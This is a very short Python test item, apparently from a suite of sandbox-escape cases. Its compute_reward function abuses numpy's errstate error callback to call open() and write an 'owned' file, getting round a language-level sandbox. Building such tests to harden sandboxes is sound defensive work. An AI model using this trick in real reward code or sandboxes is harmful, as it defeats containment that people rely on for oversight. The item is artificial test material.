# attack: np.errstate(call=...) calls any function
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    with np.errstate(all='call', call=lambda *a: open('@FOLDER@/owned', 'w')):
        1 / (x * 0)
    return x, {}
